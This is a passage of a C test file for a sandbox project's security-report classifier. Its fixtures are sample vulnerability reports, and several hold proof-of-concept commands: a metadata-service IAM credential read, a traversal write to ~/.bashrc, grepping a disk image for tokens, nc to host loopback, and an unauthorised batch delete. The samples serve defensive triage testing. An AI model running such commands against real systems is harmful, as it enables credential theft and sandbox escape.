/* test_classify_words.c — the word models (words.c) for the class and the
 * component: the words of a text, the model on small rules and the
 * repository's, the harm and finding it needs, judging candidates, weak
 * components.
 * Split from test_classify.c by area; what the programs share is in
 * classify_helpers.h. */
#include "classify_helpers.h"

/* The word model's words: lower case, letters and digits, no word with a
 * digit, none shorter than two characters. */
static void
test_words_of(void)
{
	g_autoptr(GPtrArray) w = st_words_of("The HOST's /etc/shadow, msb 0.8.2 -- a VM-escape; Größe x1", 100);
	g_ptr_array_add(w, NULL);
	g_autofree char *joined = g_strjoinv(" ", (char **)w->pdata);
	g_assert_cmpstr(joined, ==, "the host etc shadow msb vm escape größe");
	g_autoptr(GPtrArray) few = st_words_of("one two three four", 2);
	g_assert_cmpuint(few->len, ==, 2);
}

/* A small model of its own: three labels, "none" among them; a class needs
 * a description, PoC or logs. */
static const char words_rules[] =
	"[classify]\nclass_needs = description poc logs\n"
	"[wordmodel]\nclasses = none;net;disk\ndocs = 2;2;2\ntokens = 6;6;6\nvocabulary = 6\n"
	"alpha = 1\nmin_margin = 2\nbigrams = true\n"
	"[wordmodel.words]\n"
	"hardening = 4;0;0\nsuggestion = 2;0;0\n"
	"egress = 0;3;0\nfirewall = 0;2;0\negress_firewall = 0;1;0\n"
	"volume = 0;0;6\n";

/* The model scores a small text into the expected label, with the words
 * that decided as evidence; "none" and a thin margin give no class. */
static void
test_word_model(void)
{
	g_autoptr(StRules) rules = tu_rules_text(words_rules);
	const StWordModel *m = st_rules_word_model(rules, "class");
	StWordGuess g;

	g_assert_nonnull(m);
	g_assert_true(st_word_model_guess(m, "The egress firewall lets everything out.", &g));
	g_assert_cmpstr(g.klass, ==, "net");
	g_assert_nonnull(strstr(g.evidence, "egress_firewall"));
	g_free(g.evidence);
	g_assert_false(st_word_model_guess(m, "A hardening suggestion.", &g));
	g_assert_cmpstr(g.klass, ==, "none");
	g_free(g.evidence);
	/* one word each way: no margin */
	g_assert_false(st_word_model_guess(m, "egress volume", &g));
	g_free(g.evidence);
	g_assert_false(st_word_model_guess(m, "nothing the model knows", &g));
	g_assert_null(g.klass);
	g_assert_null(g.evidence);

	/* a count list that does not match the classes fails the load */
	g_autoptr(GError) err = NULL;
	g_autoptr(StRules) bad = st_rules_load_data("[wordmodel]\nclasses = a;b\ndocs = 1;1\n"
						    "tokens = 1;1\n[wordmodel.words]\nx = 1\n", -1, &err);
	g_assert_null(bad);
	g_assert_nonnull(err);
	g_assert_nonnull(strstr(err->message, "x: not one count per class"));

	/* a count that is not a number fails it too; spaces and a last ';'
	 * are a keyfile list's own and are kept */
	const char *heads = "[wordmodel]\nclasses = a;b\ndocs = 1;1\ntokens = 1;1\n[wordmodel.words]\n";
	const char *bodies[] = { "x = 1;b\n", "x = 1;;2\n", "x = 1 2;3\n", "x = 1;99999999999\n", "x = 1;2;3\n" };
	for (guint i = 0; i < G_N_ELEMENTS(bodies); i++) {
		g_autofree char *t = g_strconcat(heads, bodies[i], NULL);
		g_autoptr(GError) e = NULL;
		g_autoptr(StRules) r = st_rules_load_data(t, -1, &e);
		g_assert_null(r);
		g_assert_nonnull(e);
	}
	g_autofree char *fine = g_strconcat(heads, "xx = 1 ; 2;\nyy=0;3\n", NULL);
	g_autoptr(StRules) good = st_rules_load_data(fine, -1, NULL);
	g_assert_nonnull(good);
	StWordGuess g2 = { 0 };
	g_assert_true(st_word_model_guess(st_rules_word_model(good, "class"), "yy xx", &g2));
	g_assert_cmpstr(g2.klass, ==, "b");
	g_free(g2.evidence);

	/* a model file whose word is written twice fails too (GKeyFile would
	 * keep only the last count) */
	g_autofree char *path = NULL;
	int fd = g_file_open_tmp("st-model-XXXXXX.model", &path, NULL);
	g_assert_cmpint(fd, >=, 0);
	close(fd);
	g_autofree char *twice = g_strdup_printf("%s%s", words_rules, "egress = 0;1;0\n");
	g_assert_true(g_file_set_contents(path, twice, -1, NULL));
	g_autoptr(GError) e2 = NULL;
	StWordModel *dup = st_word_model_load(path, &e2);
	g_assert_null(dup);
	g_assert_nonnull(e2);
	g_assert_nonnull(strstr(e2->message, "[wordmodel.words] egress: key repeated"));
	g_unlink(path);
	g_assert_true(g_file_set_contents(path, words_rules, -1, NULL));
	dup = st_word_model_load(path, NULL);
	g_assert_nonnull(dup);
	st_word_model_free(dup);
	g_unlink(path);
}

/* The repository's rules/class.model loads with the rules and, where no
 * pattern names a class, tells one from plain words; the class says where
 * it came from. */
static void
test_word_model_repo(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_assert_nonnull(st_rules_word_model(rules, "class"));
	g_autoptr(StAnalysis) a = classify(rules, "odd files on my laptop",
					   "A script I ran inside the VM left a file in the home directory of my\n"
					   "laptop, outside the folder I shared with the VM. It can write anywhere\n"
					   "my user can.", FALSE);
	g_assert_cmpstr(a->klass, ==, "sandbox_escape");
	g_assert_cmpstr(a->class_source, ==, "words");
	g_assert_true(g_str_has_prefix(a->class_evidence, "words: "));
	g_autoptr(StAnalysis) b = classify(rules, "Sandbox escape through the virtiofs share",
					   "The guest writes files on the host through a symlink.", TRUE);
	g_assert_cmpstr(b->klass, ==, "sandbox_escape");
	g_assert_cmpstr(b->class_source, ==, "patterns");
}

/* The model gives a class only to a message that reports something (a
 * description, PoC or logs: [classify] class_needs), like the patterns: the
 * same words with no claimed finding get no class. */
static void
test_word_model_needs_finding(void)
{
	g_autoptr(StRules) rules = tu_rules_text(words_rules);
	g_autoptr(StAnalysis) a = classify(rules, "egress", "The egress firewall lets everything out.",
					   FALSE);

	g_assert_cmpstr(a->klass, ==, "net");
	g_assert_cmpstr(a->class_source, ==, "words");
	a->check[ST_CHECK_DESCRIPTION] = FALSE;
	st_classify(rules, a->msg, NULL, a);
	g_assert_null(a->klass);
	g_assert_null(a->class_evidence);
	g_assert_null(a->class_source);
}

/* [classify] words_harm_min (#3): the model names a class only for a text
 * that names some kind of harm ([words.harm]); the same topic words over a
 * question get none.  Pasted output counts as well; 0 turns the check off. */
static const char harm_rules[] =
	"[classify]\nclass_needs = description poc logs\nwords_harm_min = 1\n"
	"[words.harm]\nmatch.leak = \\bleak\\w*\nmatch.others = \\banother\\s+user\\b\n"
	"[wordmodel]\nclasses = none;net;disk\ndocs = 2;2;2\ntokens = 6;6;6\nvocabulary = 6\n"
	"alpha = 1\nmin_margin = 2\nbigrams = true\n"
	"[wordmodel.words]\n"
	"hardening = 4;0;0\nsuggestion = 2;0;0\n"
	"egress = 0;3;0\nfirewall = 0;2;0\negress_firewall = 0;1;0\n"
	"volume = 0;0;8\n";

static void
test_word_model_needs_harm(void)
{
	g_autoptr(StRules) rules = tu_rules_text(harm_rules);
	/* topic words alone: no class */
	g_autoptr(StAnalysis) a = classify(rules, "egress", "How do I make the egress firewall faster?",
					   FALSE);
	g_assert_null(a->klass);
	g_assert_null(a->class_source);
	/* a kind of harm named: the model's class */
	g_autoptr(StAnalysis) b = classify(rules, "egress", "The egress firewall leaks my data.", FALSE);
	g_assert_cmpstr(b->klass, ==, "net");
	g_assert_cmpstr(b->class_source, ==, "words");
	g_autoptr(StAnalysis) c = classify(rules, "volume", "The volume of another user opens in mine.",
					   FALSE);
	g_assert_cmpstr(c->klass, ==, "disk");
	/* ... in the pasted output too */
	g_autoptr(StAnalysis) d = classify(rules, "egress",
					   "The egress firewall, see below.\n\n"
					   "    $ curl -s http://198.51.100.7/\n    leaked: hello\n", FALSE);
	g_assert_cmpstr(d->klass, ==, "net");
	/* "anotheruser" is not "another user" */
	g_autoptr(StAnalysis) e = classify(rules, "volume", "The volume of anotheruser is slow.", FALSE);
	g_assert_null(e->klass);
	/* 0: no such check */
	g_autofree char *off = g_strdup(harm_rules);
	char *one = strstr(off, "words_harm_min = 1");
	one[strlen("words_harm_min = ")] = '0';
	g_autoptr(StRules) rules0 = tu_rules_text(off);
	g_autoptr(StAnalysis) f = classify(rules0, "egress", "How do I make the egress firewall faster?",
					   FALSE);
	g_assert_cmpstr(f->klass, ==, "net");
}

/* The repository's model and [words.harm] (#3): messages that report no
 * harm (a question, a feature request, a performance complaint, a vendor
 * questionnaire, a thank-you note), in several languages, get no class even
 * where the model alone would guess one; findings told in words no pattern
 * knows still get the model's class. */
typedef struct {
	const char *subject;
	const char *body;
	const char *klass;  /* NULL: none */
} HarmCase;

static const HarmCase harm_cases[] = {
	{ "sandbox pool warm-up",
	  "The sandbox pool warms up slowly on our CI. Is there a setting to keep more sandboxes\n"
	  "warm? Each of our forty jobs waits nine seconds before its sandbox answers.", NULL },
	{ "Frage zu Snapshots",
	  "Hallo, der Sandbox-Pool startet auf unserem Build-Server sehr langsam. Gibt es eine\n"
	  "Einstellung, um mehr Sandboxen warm zu halten? Snapshots wiederherstellen dauert bei\n"
	  "uns länger als ein Kaltstart.", NULL },
	{ "Pregunta sobre snapshots",
	  "Hola, restaurar un snapshot tarda más que arrancar una sandbox nueva en nuestro\n"
	  "portátil. ¿Hay alguna opción para guardar los snapshots comprimidos?", NULL },
	{ "Demande de fonctionnalité",
	  "Bonjour, serait-il possible d'exporter les snapshots vers un stockage S3 et de choisir\n"
	  "le nombre de processeurs par sandbox ? Merci pour ce projet.", NULL },
	{ "Grazie!",
	  "Ciao, volevo solo ringraziarvi: dopo l'aggiornamento i snapshot si ripristinano molto\n"
	  "più in fretta sul nostro server. Ottimo lavoro a tutto il team.", NULL },
	{ "Vendor questionnaire",
	  "As part of our onboarding please tell us: where are snapshots stored, which regions do\n"
	  "you operate in, and how long do you keep sandbox logs?", NULL },
	{ "Feature request: network profiles",
	  "We would love named network profiles in the Python SDK so that each sandbox can pick one\n"
	  "when it is created, instead of passing the settings every time.", NULL },
	/* findings in plain words or other languages that no pattern names */
	{ "odd files on my laptop",
	  "A script I ran inside the VM left a file in the home directory of my laptop, outside\n"
	  "the folder I shared with the VM. It could put something nastier there too.",
	  "sandbox_escape" },
	{ "share link lets strangers press buttons",
	  "The view-only link I made for our auditor still shows the restart and delete buttons, and\n"
	  "they work: anyone who is forwarded that link can stop our sandbox without an account.",
	  "control_plane_auth" },
	/* a mail gateway's tag before the subject is not the writer's word */
	{ "[EXTERNAL] share link lets strangers press buttons",
	  "The view-only link I made for our auditor still shows the restart and delete buttons, and\n"
	  "they work: anyone who is forwarded that link can stop our sandbox without an account.",
	  "control_plane_auth" },
	{ "installer mengunduh tanpa checksum",
	  "Skrip install di situs kalian mengunduh binary msb dari bucket penyimpanan yang sudah\n"
	  "dihapus dan tidak memeriksa checksum atau tanda tangan. Siapa pun yang mendaftarkan nama\n"
	  "bucket itu bisa memberi binary miliknya kepada semua pengguna baru.", "supply_chain" },
};

static void
test_word_model_harm_repo(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	GString *bad = g_string_new(NULL);

	for (gsize i = 0; i < G_N_ELEMENTS(harm_cases); i++) {
		const HarmCase *c = &harm_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, TRUE);
		if (g_strcmp0(a->klass, c->klass) != 0 ||
		    (c->klass != NULL && g_strcmp0(a->class_source, "words") != 0))
			g_string_append_printf(bad, "\"%s\": want %s, got %s (%s, %s)\n", c->subject,
					       c->klass ? c->klass : "null", a->klass ? a->klass : "null",
					       a->class_source ? a->class_source : "-",
					       a->class_evidence ? a->class_evidence : "");
	}
	if (bad->len > 0)
		g_error("%s", bad->str);
	g_string_free(bad, TRUE);
}

/* [classify] words_weight: when two classes reach class_min, the model
 * picks among them, and only among them; one candidate alone is never
 * second-guessed, and 0 turns the judging off. */
static const char judge_rules[] =
	"[classify]\nclass_needs = description poc logs\nclass_min = 8\nclass_min_patterns = 1\n"
	"words_weight = 2\n"
	"[class.secret]\nweight = 10\nmatch.key = api key\n"
	"[class.authz]\nweight = 9\nmatch.viewer = viewer\n"
	"[class.net]\nweight = 9\nmatch.allow = net-allow\n"
	"[wordmodel]\nclasses = none;secret;authz;net\ndocs = 2;2;2;2\ntokens = 6;6;6;6\n"
	"vocabulary = 6\nalpha = 1\nmin_margin = 2\nbigrams = false\n"
	"[wordmodel.words]\n"
	"key = 0;3;0;0\nleaked = 0;5;0;0\nviewer = 0;0;6;0\nrole = 0;0;4;0\n"
	"egress = 0;0;0;6\nfirewall = 0;0;0;6\n";

static void
test_words_judge_candidates(void)
{
	g_autoptr(StRules) rules = tu_rules_text(judge_rules);
	/* secret (10) and authz (9) are candidates; the words favour authz */
	g_autoptr(StAnalysis) a = classify(rules, "Odd thing",
					   "A viewer role can read the api key.", FALSE);
	g_assert_cmpstr(a->klass, ==, "authz");
	g_assert_cmpstr(a->class_source, ==, "patterns");
	g_assert_nonnull(strstr(a->class_evidence, "favour it over secret"));
	/* ... and secret when the words say the key leaked */
	g_autoptr(StAnalysis) b = classify(rules, "Leaked key",
					   "The api key leaked to a viewer, leaked again.", FALSE);
	g_assert_cmpstr(b->klass, ==, "secret");
	g_assert_null(strstr(b->class_evidence, "favour"));
	/* the words favour net, which no pattern found: not a candidate */
	g_autoptr(StAnalysis) c = classify(rules, "egress firewall",
					   "The egress firewall: a viewer can read the api key.", FALSE);
	g_assert_cmpstr(c->klass, !=, "net");
	/* one candidate is not second-guessed: the words favour authz */
	g_autoptr(StAnalysis) d = classify(rules, "role", "The role viewer role shows an api key.",
					   FALSE);
	g_assert_cmpstr(d->klass, ==, "authz");
	g_autoptr(StAnalysis) e = classify(rules, "role", "The role role shows the api key.", FALSE);
	g_assert_cmpstr(e->klass, ==, "secret");
	g_assert_null(strstr(e->class_evidence, "favour"));
}

/* words_weight = 0: the pattern scores alone, as before the judging. */
static void
test_words_judge_off(void)
{
	g_autofree char *text = g_strdup(judge_rules);
	char *w = strstr(text, "words_weight = 2");
	w[strlen("words_weight = ")] = '0';
	g_autoptr(StRules) rules = tu_rules_text(text);
	g_autoptr(StAnalysis) a = classify(rules, "Odd thing",
					   "A viewer role can read the api key.", FALSE);
	g_assert_cmpstr(a->klass, ==, "secret");
	g_assert_null(strstr(a->class_evidence, "favour"));
}

/* The repository's rules and model on reports written for this test (#3):
 * each names the things of two classes (a key, another project's
 * sandboxes, a snapshot, an unsigned download over http), and its class is
 * the finding's, which the words of the whole report tell. */
static const ClassCase judged_cases[] = {
	{ "Viewer seat can pull every API key of the org",
	  "A member we added with the Viewer role can call GET /v1/orgs/acme/keys and the answer lists\n"
	  "every API key of the organisation in clear. The endpoint never checks the caller's role;\n"
	  "only Owners are meant to see that page.", "control_plane_auth", NULL },
	{ "Project token works on the sibling project",
	  "A token we created for project alpha can list, exec into and stop the sandboxes of project\n"
	  "beta in the same organisation. The API only checks that the token belongs to the\n"
	  "organisation, never that it belongs to the project it is used on.",
	  "control_plane_auth", NULL },
	{ "Installer never checks the signature it downloads",
	  "install.sh downloads the msb tarball and its .minisig over plain http and runs the binary\n"
	  "without ever verifying the signature, so whoever sits on the network path or the mirror\n"
	  "hands every new user their own binary.", "supply_chain", NULL },
	{ "SDK puts the API key into every 403 error",
	  "When a call fails with 403 the Python SDK raises an error whose message carries the full\n"
	  "API key, and our alerting bot posts those errors into a channel that 200 people read.",
	  "secret_leakage", NULL },
	{ "Restored snapshot keeps the real secret values",
	  "A snapshot taken of a running sandbox keeps the resolved secret values in its memory image,\n"
	  "and whoever restores it in another account reads them with a plain grep.",
	  "snapshot_leak", "core" },
	{ "Other users' job output readable from my sandbox",
	  "From inside my sandbox I can read the stdout of sandboxes that belong to other users on the\n"
	  "same host, tokens included when their jobs print them. Nothing stops one sandbox from\n"
	  "reading another sandbox's output.", "isolation_bypass", NULL },
	{ "Intern sees the production keys",
	  "I invited our intern with the Viewer role. On the Settings page he clicked Reveal next to\n"
	  "each API key and the console showed him the full keys, which I thought only Owners could\n"
	  "do. His role should not allow that.", "control_plane_auth", NULL },
	{ "Guest reads the instance role through a mapped address",
	  "With --net-allow pypi.org the sandbox still reaches the metadata service as\n"
	  "[::ffff:169.254.169.254] and gets the name of the instance role from\n"
	  "/latest/meta-data/iam/security-credentials/. The allow list never sees that address.",
	  "network_bypass", NULL },
	{ "Snapshots of other organisations through the API",
	  "GET /v1/snapshots?org=other-org returns the snapshots of an organisation I am not a member\n"
	  "of, with download links. The API does not check that the caller belongs to the org named in\n"
	  "the query.", "control_plane_auth", NULL },
};

static void
test_words_judge_repo(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	for (gsize i = 0; i < G_N_ELEMENTS(judged_cases); i++) {
		const ClassCase *c = &judged_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, TRUE);
		if (g_strcmp0(a->klass, c->klass) != 0)
			g_error("\"%s\": want class %s, got %s (%s)", c->subject, c->klass,
				a->klass ? a->klass : "null", a->class_evidence ? a->class_evidence : "");
	}
}

/* A component model of its own ([wordmodel] field = component): a pattern
 * names the cloud, and the default is core. */
static const char component_words_rules[] =
	"[classify]\ncomponent_min = 8\ncomponent_min_patterns = 1\ndefault_component = core\n"
	"[component.cloud]\nweight = 10\nmatch.named = managed cloud\n"
	"[wordmodel]\nfield = component\nclasses = core;node_sdk;cloud\ndocs = 4;2;2\n"
	"tokens = 8;8;8\nvocabulary = 6\nalpha = 1\nmin_margin = 3\nbigrams = true\n"
	"[wordmodel.words]\n"
	"guest = 4;0;0\nkernel = 4;0;0\n"
	"npm = 0;4;0\nrequire = 0;3;0\nnpm_package = 0;1;0\n"
	"console = 0;0;8\n";

/* The component model loads under its field, scores a small text, and
 * overrules the default only when it is sure; a component a pattern named
 * stays. */
static void
test_component_model(void)
{
	g_autoptr(StRules) rules = tu_rules_text(component_words_rules);
	const StWordModel *m = st_rules_word_model(rules, "component");
	StWordGuess g;

	g_assert_nonnull(m);
	g_assert_null(st_rules_word_model(rules, "class"));
	g_assert_true(st_word_model_guess(m, "We require the npm package in our app.", &g));
	g_assert_cmpstr(g.klass, ==, "node_sdk");
	g_assert_nonnull(strstr(g.evidence, "npm_package"));
	g_free(g.evidence);

	/* the default, overruled by a sure model */
	g_autoptr(StAnalysis) a = classify(rules, "photos kept", "We require the npm package and "
					   "the copy keeps old photos.", FALSE);
	g_assert_cmpstr(a->component, ==, "node_sdk");
	g_assert_cmpstr(a->component_source, ==, "words");
	g_assert_true(g_str_has_prefix(a->component_evidence, "words: "));

	/* one word each way: not sure, the default is kept */
	g_autoptr(StAnalysis) b = classify(rules, "odd", "The npm console.", FALSE);
	g_assert_cmpstr(b->component, ==, "core");
	g_assert_cmpstr(b->component_source, ==, "patterns");
	g_assert_cmpstr(b->component_evidence, ==, "default: no component named");

	/* nothing the model knows: the default */
	g_autoptr(StAnalysis) c = classify(rules, "odd", "Something else entirely.", FALSE);
	g_assert_cmpstr(c->component, ==, "core");
	g_assert_cmpstr(c->component_source, ==, "patterns");

	/* a component a pattern named is not the model's to change */
	g_autoptr(StAnalysis) d = classify(rules, "managed cloud", "We require the npm package "
					   "with the managed cloud.", FALSE);
	g_assert_cmpstr(d->component, ==, "cloud");
	g_assert_cmpstr(d->component_source, ==, "patterns");

	/* [classify] component_words = never keeps the default */
	g_autoptr(GString) never = g_string_new(component_words_rules);
	g_string_replace(never, "[classify]\n", "[classify]\ncomponent_words = never\n", 1);
	g_autoptr(StRules) off = tu_rules_text(never->str);
	g_autoptr(StAnalysis) e = classify(off, "photos kept", "We require the npm package and "
					   "the copy keeps old photos.", FALSE);
	g_assert_cmpstr(e->component, ==, "core");
	g_assert_cmpstr(e->component_source, ==, "patterns");
}

/* The repository's rules/component.model loads with the rules and scores
 * a small text. */
static void
test_component_model_repo(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const StWordModel *m = st_rules_word_model(rules, "component");
	StWordGuess g;

	g_assert_nonnull(m);
	st_word_model_guess(m, "The npm package of the Node SDK in our JavaScript app.", &g);
	g_assert_cmpstr(g.klass, ==, "node_sdk");
	g_free(g.evidence);
	g_autoptr(StAnalysis) b = classify(rules, "Sandbox escape through the virtiofs share",
					   "The guest writes files on the host through a symlink.", TRUE);
	g_assert_cmpstr(b->component, ==, "core");
	g_assert_cmpstr(b->component_source, ==, "patterns");
}

/* [classify] component_words = weak: a group that won without a strong
 * pattern ("region" here) is only a touch of a component, and the sure
 * model may replace it with another; a named component stays, and with
 * "default" the weak answer stays too. */
static void
test_component_weak(void)
{
	g_autoptr(GString) text = g_string_new(component_words_rules);
	g_string_replace(text, "[classify]\n", "[classify]\ncomponent_words = weak\n", 1);
	g_string_replace(text, "match.named = managed cloud\n",
			 "match.named = managed cloud\nmatch.region = region\n", 1);
	g_autoptr(StRules) rules = tu_rules_text(text->str);
	g_autoptr(StAnalysis) a = classify(rules, "guest kernel",
					   "The guest kernel reads the host's memory in one region.",
					   FALSE);
	g_assert_cmpstr(a->component, ==, "core");
	g_assert_cmpstr(a->component_source, ==, "words");
	g_assert_true(g_str_has_prefix(a->component_evidence, "words: "));

	/* the model agrees with the weak answer: the pattern's evidence stays */
	g_autoptr(StAnalysis) b = classify(rules, "region", "The console of one region shows every "
					   "key.", FALSE);
	g_assert_cmpstr(b->component, ==, "cloud");
	g_assert_cmpstr(b->component_source, ==, "patterns");

	/* a named component is not the model's to change */
	g_autoptr(StAnalysis) c = classify(rules, "guest kernel",
					   "The guest kernel of the managed cloud reads the "
					   "host's memory.", FALSE);
	g_assert_cmpstr(c->component, ==, "cloud");
	g_assert_cmpstr(c->component_source, ==, "patterns");

	/* "default": the model speaks only for the default */
	g_autoptr(GString) def = g_string_new(text->str);
	g_string_replace(def, "component_words = weak", "component_words = default", 1);
	g_autoptr(StRules) rdef = tu_rules_text(def->str);
	g_autoptr(StAnalysis) d = classify(rdef, "guest kernel",
					   "The guest kernel reads the host's memory in one region.",
					   FALSE);
	g_assert_cmpstr(d->component, ==, "cloud");
	g_assert_cmpstr(d->component_source, ==, "patterns");
}

typedef struct {
	const char *subject;
	const char *body;
	const char *component;
	const char *source;
} ComponentCase;

/* Reports in new words (#3): what a leaked file held, the CI the writer
 * runs msb on, a signature's job title or a list footer name no component
 * of the finding; a finding in the release side or a named SDK keeps its
 * component. */
static const ComponentCase weak_cases[] = {
	/* (#3) "Build Infrastructure" as the signature's job title names no
	 * release side; the release build infrastructure at fault does */
	{ "Sandbox reads a neighbour's port",
	  "From sandbox job-7 I can reach port 8080 of sandbox job-8 on the same host and read its\n"
	  "environment with curl.\n\nRegards,\nMara Lind\nBuild Infrastructure Engineer\n",
	  "core", "words" },
	{ "Release tarballs built on a shared runner",
	  "Your build infrastructure for release tarballs runs on a runner that other projects share,\n"
	  "so one of them can replace msb in the tarball before it is signed.",
	  "release_infra", "patterns" },
	/* (1585) the published installers and binaries unsigned: signing is
	 * the release pipeline's; an unsigned image msb accepts is the
	 * runtime's */
	{ "Windows setup.exe has no signature",
	  "The setup.exe and msb.exe from the downloads page are not digitally signed, so Defender\n"
	  "warns about an unknown publisher. Please sign them with a code signing certificate.",
	  "release_infra", "patterns" },
	{ "msb pull accepts unsigned images",
	  "With image verification turned on, msb pull still starts an unsigned image from our\n"
	  "registry; the policy check in the runtime is skipped.", "core", "patterns" },
	/* (#3) the runtime's VMM process named (its command line, argv): the
	 * workload's words (a node image, npm, NODE_ENV) or build nodes of a
	 * CI are no Node SDK; a flaw said to be in the Node SDK stays there */
	{ "secrets from --env-file show up in ps",
	  "On our shared CI nodes every variable of the --env-file ends up on the command line of the\n"
	  "VMM process, so other users read them with ps.\n\n"
	  "  msb run --env-file ci.env registry.example/node:22 -- npm test\n"
	  "  $ ps -eo args | grep msb-vmm\n"
	  "  msb-vmm --env NODE_ENV=test --env NPM_TOKEN=npm_xxx --env NODE_OPTIONS=--max-old-space\n",
	  "core", "patterns" },
	{ "Node SDK puts the API key on the msb-vmm command line",
	  "The Node SDK's createSandbox() passes our API key to msb-vmm as an argument, so every local\n"
	  "user reads it with ps while our npm test suite runs.\n\n"
	  "  const sb = await Sandbox.create({ apiKey: process.env.MSB_API_KEY })\n",
	  "node_sdk", "patterns" },
	/* (1352) a managed-services provider is the writer's employer, not
	 * the cloud; "your managed service" is the cloud */
	{ "hooks folder left world-writable by the package",
	  "The postinst of the .deb creates /etc/msb/hooks.d with mode 1777 and msbd runs every file\n"
	  "there as root when a sandbox starts, so any local user becomes root.\n\n"
	  "  $ ls -ld /etc/msb/hooks.d\n  drwxrwxrwt 2 root root 4096 /etc/msb/hooks.d\n\n"
	  "Priya Raman\nSenior Linux Administrator, Korvane Managed Services Ltd.\n",
	  "core", "words" },
	{ "orgs see each other's sandboxes in your managed service",
	  "In your managed service, GET /v1/sandboxes with a key of my org returns the sandboxes of\n"
	  "another organisation, with their names and environment.\n",
	  "cloud", "patterns" },
	/* the leaked file held a release token: the restore is the runtime's */
	{ "restored sandbox still holds deleted files",
	  "When I delete a file inside a sandbox, take a snapshot and restore it as a new sandbox,\n"
	  "the new sandbox can still read the deleted file from the raw disk: restore copies the whole\n"
	  "image and does not discard the free blocks. The file we lost this way held the release\n"
	  "token of the mobile team, so anyone handed the restored sandbox could publish their app.\n\n"
	  "  msb exec a -- sh -c 'cp token.txt /root/t; sync; rm /root/t; sync'\n"
	  "  msb snapshot a --tag clean\n  msb restore clean --name b\n"
	  "  msb exec b -- strings /dev/vda | grep TOKEN\n  TOKEN=rel_4f9a...\n",
	  "core", "words" },
	/* the writer's CI runs msb; the shared scratch disk is the runtime's */
	{ "two sandboxes share one scratch disk",
	  "We run msb on the machines behind our GitHub Actions self-hosted runners. Every sandbox\n"
	  "started with --scratch from the same image gets the same scratch disk, so a job of one\n"
	  "repository reads what a job of another repository left there, including the deploy key\n"
	  "one workflow writes to /scratch.\n\n"
	  "  msb run --scratch --name one alpine -- sh -c 'echo k > /scratch/key'\n"
	  "  msb run --scratch --name two alpine -- cat /scratch/key\n  k\n",
	  "core", "words" },
	/* a job title in the signature */
	{ "files from the sandbox show up in my home folder",
	  "A file I write inside the sandbox in /mnt/share/../x turns up in my real home folder,\n"
	  "next to the shared one, and I can overwrite my ~/.bashrc that way.\n\n"
	  "  msb run --volume ./share:/mnt/share alpine -- sh -c 'echo pwned > /mnt/share/../.bashrc'\n\n"
	  "Best,\nMira\n\n-- \nMira Okafor | Release Engineering, CI/CD and supply chain security\n"
	  "Fennel Systems | https://fennel.example\n",
	  "core", "words" },
	/* a list footer (the delimiter trimmed to "--") */
	{ "sandbox without network reaches the host",
	  "A sandbox started without any network can still open a TCP connection to a service that\n"
	  "listens on the host's loopback address.\n\n  msb run --net none alpine -- nc 127.0.0.1 5432\n\n"
	  "--\nYou received this because you are on the managed cloud beta list of Example Hosting.\n"
	  "Unsubscribe: https://hosting.example/u\n",
	  "core", "patterns" },
	/* the release side's own storage: the model agrees, the pattern stays */
	{ "SHA256SUMS no longer matches the downloads",
	  "The binaries in the release bucket do not match SHA256SUMS any more: the msb binary for\n"
	  "linux-x86_64 downloaded today has another hash than the one listed, and it contacts an\n"
	  "unknown host when it starts. Everyone who installs now runs that binary.\n\n"
	  "  curl -LO https://releases.example/msb-linux-x86_64\n  sha256sum msb-linux-x86_64\n",
	  "release_infra", "patterns" },
	/* the SDK only set things up: the finding is in what it drove (round
	 * 62's 717, in other words) */
	{ "hosted API lets a viewer token delete sandboxes",
	  "A token with the viewer role can delete any sandbox of its organization through the batch\n"
	  "endpoint of the cloud API; the single delete endpoint refuses it.\n\n"
	  "Setup: Node SDK 0.9.1, just for creating the two sandboxes; the rest is raw HTTPS.\n\n"
	  "  curl -X POST https://api.cloud.example/v1/sandboxes/batch-delete -H 'Authorization: Bearer $VIEWER'\n"
	  "  {\"deleted\":2}\n",
	  "cloud", "patterns" },
	{ "guest reads host memory through the balloon device",
	  "The guest kernel can read host memory through the virtio balloon device of the VMM: the\n"
	  "hypervisor maps freed pages back without clearing them. I simply used the Python SDK to\n"
	  "start the microVM; msb run shows the same.\n\n"
	  "  msb run alpine -- /root/balloon-read\n  host page: 7f3a... (host heap)\n",
	  "core", "patterns" },
	/* ... while an SDK that does the harm itself keeps its component */
	{ "Python SDK writes the API key to a temp file",
	  "The Python SDK writes the API key into a world-readable file under /tmp every time a\n"
	  "sandbox is created, and only deletes it when the process exits cleanly.\n\n"
	  "  from microsandbox import PythonSandbox\n  PythonSandbox.create(api_key='k')\n  ls -l /tmp/msb-*\n",
	  "python_sdk", "patterns" },
	/* a mail forwarded below the forwarder's signature is read */
	{ "fwd: exceptions carry the key",
	  "FYI, from one of our developers, see below.\n\n-- \nAna Lopes\nIT operations\n\n"
	  "---------- Forwarded message ---------\nFrom: Dev <dev@example.org>\n\n"
	  "The Python SDK puts the API key into its exception message when a call fails, so every\n"
	  "log line of a failed call holds the key.\n\n"
	  "  from microsandbox import PythonSandbox\n  PythonSandbox.create(api_key='k')\n",
	  "python_sdk", "patterns" },
	/* (1387, 1392) the SDK only the client through which a flaw of the
	 * daemon was seen: the writer places it in msbd, or names msbd as
	 * what fails; an SDK that does the harm itself keeps its component */
	{ "Node SDK exec returns output of a sandbox that is gone",
	  "We drive microsandbox with the Node SDK. When our client disconnects in the middle of an\n"
	  "exec, the old process stays attached to its channel and its output is handed to the next\n"
	  "exec, even one in another sandbox. I think the bug is in the daemon and not in the SDK: the\n"
	  "SDK only reads what msbd sends back.\n\n"
	  "  const r = await sb.exec('id')\n",
	  "core", "patterns" },
	{ "Python-SDK liefert Dateien fremder Sandboxen",
	  "Über das Python-SDK rufe ich sb.read_file() auf und bekomme Dateien aus einer anderen\n"
	  "Sandbox zurück. Der Fehler liegt nicht im SDK, sondern in msbd, der die Sandbox-ID im Pfad\n"
	  "nicht prüft.\n\n  from microsandbox import Sandbox\n",
	  "core", "patterns" },
	/* (3898) "im Daemon, nicht im SDK", the sentence ending there */
	{ "msbd stellt Snapshots \u00fcber Namespaces hinweg wieder her",
	  "Unser Job-Runner nutzt das Python-SDK. Nach unserer Analyse ignoriert msbd beim Wiederherstellen den\n"
